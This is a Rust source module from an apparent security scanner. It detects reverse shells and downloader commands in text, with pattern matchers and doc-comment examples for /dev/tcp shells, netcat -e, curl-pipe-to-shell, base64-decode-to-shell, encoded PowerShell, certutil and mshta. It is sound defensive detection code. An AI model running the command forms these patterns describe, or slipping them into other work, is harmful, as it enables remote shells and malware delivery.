//! Shell commands that only attacks are written with: shells handed to the
//! network, and droppers that fetch or decode a program and run it at once.
//!
//! Each verifier wants the whole command on one line, not a word of it:
//! vocabularies and documentation hold the words.

use super::text::{
    decode_base64, find, has, has_folded, is_text, is_word, last_line, line, run, skip_blanks,
    starts_word, strip_any, take,
};
use super::{Around, Family, Found, Pattern};
use crate::detect::Reach;
use crate::report::Severity;
use crate::rules::Rule;
use crate::rules::embedded::{DROPPER, REVERSE_SHELL};

/// How much of a command line is looked at behind its anchor, in bytes.
const LINE_CAP_BYTES: usize = 512;

/// How much in front of it, in bytes.
const BEFORE_BYTES: usize = 512;

/// The family.
///
/// Bits of `/dev/tcp/`: a host and a slash and a digit (8 + 4), and one of five
/// four-byte signs of a shell at one of 256 places (32 - 2 - 8). Bits of the
/// others: the second half of the command is a literal of 8 bytes or more (64)
/// at one of 512 places (-9), one of up to 16 spellings (-4).
pub(super) static PATTERNS: &[Pattern] = &[
    SHELL.pattern("dev-tcp", b"/dev/tcp/", 34.0, dev_socket),
    SHELL.pattern("dev-udp", b"/dev/udp/", 34.0, dev_socket),
    SHELL.pattern("netcat-shell", b" -e /bin/", 15.0, netcat),
    SHELL.pattern("piped-shell", b"sh -i 2>&1", 15.0, piped),
    SHELL.pattern("curl-pipe", b"curl ", 51.0, download),
    SHELL.pattern("wget-pipe", b"wget ", 51.0, download),
    SHELL.pattern("chmod-run", b"chmod +x ", 51.0, make_executable),
    SHELL.pattern("base64-pipe", b"base64 -", 30.0, decode_pipe),
    SHELL.pattern("brace-base64", b"{base64,-d}|", 24.0, brace_pipe),
    SHELL.pattern("powershell", b"powershell", 72.0, encoded),
    SHELL.pattern("powershell-title", b"PowerShell", 72.0, encoded),
    SHELL.pattern("powershell-capital", b"POWERSHELL", 72.0, encoded),
    SHELL.pattern("pwsh", b"pwsh ", 72.0, encoded),
    SHELL.pattern(
        "download-string",
        b".DownloadString(",
        14.0,
        download_string,
    ),
    SHELL.pattern("certutil", b"certutil", 51.0, certutil),
    SHELL.pattern("mshta", b"mshta ", 24.0, mshta),
];

/// What they share.
const SHELL: Family = Family {
    before: BEFORE_BYTES,
    after: LINE_CAP_BYTES,
    reach: Reach::NotProse,
};

/// The finding: the line around the anchor shows it.
fn found(rule: &'static Rule, around: &Around<'_>, message: &str) -> Option<Found> {
    let ahead = line(around.ahead());
    Some(Found {
        rule,
        severity: rule.severity,
        span: around.span(ahead.len()),
        message: message.to_owned(),
        evidence: ahead.to_vec(),
        archive: None,
    })
}

/// `/dev/tcp/HOST/PORT` with an interactive shell or a two-way redirect on the
/// same line. Scripts that merely wait for a port have neither.
fn dev_socket(around: &Around<'_>) -> Option<Found> {
    let rest = line(around.from(b"/dev/tcp/".len()));
    let (host, rest) = take(rest, |b| {
        is_word(b) || matches!(b, b'.' | b'-' | b'$' | b'{' | b'}' | b':')
    });
    let port = rest.strip_prefix(b"/")?;
    let is_address = !host.is_empty()
        && port
            .first()
            .is_some_and(|b| b.is_ascii_digit() || *b == b'$');
    let front = last_line(around.behind());
    let is_two_way = has(front, b"sh -i")
        || has(front, b" -i >&")
        || (has(front, b"exec ") && has(front, b"<>"))
        || has(port, b"0>&1")
        || has(port, b"0<&1");
    if !is_address || !is_two_way {
        return None;
    }
    found(
        &REVERSE_SHELL,
        around,
        "a shell is connected to a network address through /dev/tcp",
    )
}

/// `nc HOST PORT -e /bin/sh`, in any order of the arguments in front.
fn netcat(around: &Around<'_>) -> Option<Found> {
    let program = around.from(b" -e /bin/".len());
    let front = last_line(around.behind());
    let start = [&b"nc "[..], b"ncat ", b"netcat ", b"nc.traditional "]
        .iter()
        .filter_map(|name| find_command(front, name))
        .min()?;
    if !names_one_of(program, &[b"sh", b"bash", b"dash", b"zsh", b"ash"])
        || !is_text(front.get(start..)?)
    {
        return None;
    }
    found(
        &REVERSE_SHELL,
        around,
        "netcat hands a shell to a network address",
    )
}

/// Where the last `name`, a command and a blank, stands as a word of its own.
fn find_command(line: &[u8], name: &[u8]) -> Option<usize> {
    memchr::memmem::rfind_iter(line, name)
        .find(|&at| is_command(line.get(..at).unwrap_or_default()))
}

/// Whether the word at the start of `bytes` is one of `names`. In a pickle the
/// opcode that keeps a string, a letter and then no text, follows directly.
fn names_one_of(bytes: &[u8], names: &[&[u8]]) -> bool {
    let (word, after) = take(bytes, is_word);
    let kept = match word {
        [name @ .., b'q' | b'r'] if after.first().is_none_or(|b| !b.is_ascii_graphic()) => name,
        _ => word,
    };
    names.contains(&word) || names.contains(&kept)
}

/// `sh -i 2>&1 | nc HOST PORT`: the named-pipe form.
fn piped(around: &Around<'_>) -> Option<Found> {
    let rest = skip_blanks(around.from(b"sh -i 2>&1".len())).strip_prefix(b"|")?;
    let rest = strip_any(
        skip_blanks(rest),
        &[
            b"nc ",
            b"ncat ",
            b"netcat ",
            b"telnet ",
            b"openssl s_client",
        ],
    )?;
    if rest.is_empty() {
        return None;
    }
    found(
        &REVERSE_SHELL,
        around,
        "an interactive shell is piped to a network address",
    )
}

/// `curl URL | sh`, or `sh -c "$(curl URL)"`. An installation line in plain
/// sight, over an authenticated connection, is graded low.
fn download(around: &Around<'_>) -> Option<Found> {
    if !is_command(around.behind()) {
        return None;
    }
    let command = line(around.ahead());
    let url = find(command, b"://")?;
    let is_run = is_piped_to_interpreter(command, url) || is_substituted(around.behind());
    if !is_text(command.get(..url)?) || !is_run {
        return None;
    }
    let found = found(
        &DROPPER,
        around,
        "a download is passed straight to an interpreter",
    )?;
    Some(match is_installation_line(around, command) {
        true => Found {
            severity: Severity::Low,
            ..found
        },
        false => found,
    })
}

/// Whether the word behind `front` is a command of its own: `/usr/bin/curl` is
/// a path to it, `libcurl` and `my-curl` are other words.
fn is_command(front: &[u8]) -> bool {
    let is_glued = matches!(front.last(), Some(b'-' | b'/' | b'.'));
    front.ends_with(b"/bin/") || (!is_glued && starts_word(front))
}

/// Whether this is a line of text for a shell to read, as in installation
/// scripts and notebooks: fetched by HTTPS, among text, and no argument of a
/// call and no value of a setting.
fn is_installation_line(around: &Around<'_>, command: &[u8]) -> bool {
    let front = last_line(around.behind());
    let front = front.trim_ascii_start();
    let front = strip_any(front, &[b"- run:", b"run:"]).unwrap_or(front);
    // Documentation quotes a command between two marks: "Install: `curl ...`".
    let front = match front.strip_suffix(b"`") {
        Some(text) if memchr::memchr_iter(b'`', command).count() == 1 => {
            text.strip_suffix(b": ").unwrap_or(text)
        }
        _ => front,
    };
    has(command, b"https://")
        && !has(command, b"http://")
        && !front
            .iter()
            .any(|b| matches!(b, b'(' | b'[' | b'{' | b'=' | b':'))
        && is_text(around.bytes)
}

/// Whether one of the pipes behind byte `from` of the line ends in an
/// interpreter, with nothing but text in front of it.
fn is_piped_to_interpreter(command: &[u8], from: usize) -> bool {
    memchr::memchr_iter(b'|', command)
        .filter(|at| *at > from)
        .filter_map(|at| command.split_at_checked(at))
        .any(|(front, pipe)| {
            starts_interpreter(pipe.get(1..).unwrap_or_default()) && is_text(front)
        })
}

/// Whether a command line starts with an interpreter.
fn starts_interpreter(command: &[u8]) -> bool {
    const FRONT: &[&[u8]] = &[b"sudo ", b"env ", b"-E ", b"exec ", b"/bin/", b"/usr/bin/"];
    const NAMES: &[&[u8]] = &[
        b"sh", b"bash", b"zsh", b"dash", b"ash", b"ksh", b"python", b"python2", b"python3",
        b"perl", b"ruby", b"node", b"php", b"pwsh",
    ];
    let mut rest = skip_blanks(command);
    while let Some(behind) = strip_any(rest, FRONT) {
        rest = skip_blanks(behind);
    }
    names_one_of(rest, NAMES) && !matches!(rest.get(run(rest, is_word)), Some(b'-' | b'/' | b'='))
}

/// Whether the command is substituted into one that a shell evaluates.
fn is_substituted(front: &[u8]) -> bool {
    let front = last_line(front);
    let Some(front) = front
        .strip_suffix(b"$(")
        .or_else(|| front.strip_suffix(b"`"))
        .or_else(|| front.strip_suffix(b"<("))
    else {
        return false;
    };
    let front = front.trim_ascii_end();
    let front = front
        .strip_suffix(b"\"")
        .or_else(|| front.strip_suffix(b"'"))
        .unwrap_or(front);
    let front = front.strip_suffix(b"\\").unwrap_or(front).trim_ascii_end();
    front.ends_with(b"sh -c") || front.ends_with(b"eval") || front.ends_with(b"bash")
}

/// `curl URL -o X; chmod +x X; ./X`: fetched, made executable and started on
/// one line.
fn make_executable(around: &Around<'_>) -> Option<Found> {
    let front = last_line(around.behind());
    let start = find_command(front, b"curl ").or_else(|| find_command(front, b"wget "))?;
    let fetch = front.get(start..)?;
    let rest = line(around.from(b"chmod +x ".len()));
    let is_path = |b: u8| !matches!(b, b' ' | b';' | b'&' | b'"' | b'\'');
    let (path, rest) = take(skip_blanks(rest), is_path);
    let next = strip_any(skip_blanks(rest), &[b";", b"&&"])?;
    let name = path.rsplit(|b| *b == b'/').next()?;
    if name.is_empty() || !has(fetch, b"://") || !is_text(fetch) || !has(next, name) {
        return None;
    }
    found(
        &DROPPER,
        around,
        "a downloaded file is made executable and started",
    )
}

/// `base64 -d | sh`.
fn decode_pipe(around: &Around<'_>) -> Option<Found> {
    let rest = strip_any(around.from(b"base64 -".len()), &[b"d", b"D", b"-decode"])?;
    let command = line(rest);
    let pipe = find(command, b"|")?;
    let between = command.get(..pipe)?;
    let target = command.get(pipe.saturating_add(1)..)?;
    if !is_text(between) || !starts_interpreter(target) {
        return None;
    }
    found(
        &DROPPER,
        around,
        "decoded Base64 is passed straight to an interpreter",
    )
}

/// `{echo,...}|{base64,-d}|{bash,-i}`: the form without blanks.
fn brace_pipe(around: &Around<'_>) -> Option<Found> {
    let rest = around.from(b"{base64,-d}|".len());
    strip_any(rest, &[b"{bash", b"bash", b"{sh,"])?;
    found(
        &DROPPER,
        around,
        "decoded Base64 is passed straight to a shell",
    )
}

/// `powershell -enc BASE64`: the command is UTF-16 in Base64, so every second
/// byte of it is zero (nine bytes, 72 bits).
fn encoded(around: &Around<'_>) -> Option<Found> {
    let mut words = line(around.ahead())
        .split(|b| matches!(b, b' ' | b'\t' | b'"' | b'\''))
        .filter(|word| !word.is_empty());
    let flag = words.find(|word| is_encoded_flag(word));
    let command = decode_base64(words.next().filter(|_| flag.is_some())?, |_| false);
    let is_wide = |pair: &[u8]| matches!(pair, [low, 0] if !low.is_ascii_control());
    let start = command.get(..18)?;
    if !start.chunks_exact(2).all(is_wide) {
        return None;
    }
    found(&DROPPER, around, "PowerShell is given an encoded command")
}

/// Whether this is `-EncodedCommand` or an abbreviation that PowerShell takes.
fn is_encoded_flag(word: &[u8]) -> bool {
    let Some(name) = strip_any(word, &[b"-", b"/"]) else {
        return false;
    };
    let name = name.to_ascii_lowercase();
    name == b"ec" || (!name.is_empty() && b"encodedcommand".starts_with(name.as_slice()))
}

/// `IEX (New-Object Net.WebClient).DownloadString('http...')`.
fn download_string(around: &Around<'_>) -> Option<Found> {
    let front = last_line(around.behind());
    let rest = line(around.ahead());
    let is_evaluated =
        |part: &[u8]| has_folded(part, b"iex") || has_folded(part, b"invoke-expression");
    if !has_folded(rest, b"http") || !(is_evaluated(front) || is_evaluated(rest)) {
        return None;
    }
    found(
        &DROPPER,
        around,
        "PowerShell evaluates a script that it downloads",
    )
}

/// `certutil -urlcache -f http://...`.
fn certutil(around: &Around<'_>) -> Option<Found> {
    let command = line(around.ahead()).to_ascii_lowercase();
    let end = find(&command, b"urlcache")?.max(find(&command, b"http")?);
    if !is_text(command.get(..end)?) {
        return None;
    }
    found(
        &DROPPER,
        around,
        "the certificate tool of Windows is used to download a file",
    )
}

/// `mshta http://...`.
fn mshta(around: &Around<'_>) -> Option<Found> {
    let rest = around.from(b"mshta ".len());
    let rest = strip_any(rest, &[b"\"", b"'"]).unwrap_or(rest);
    strip_any(
        rest,
        &[b"http://", b"https://", b"vbscript:", b"javascript:"],
    )?;
    found(
        &DROPPER,
        around,
        "the HTML application host of Windows runs a remote script",
    )
}
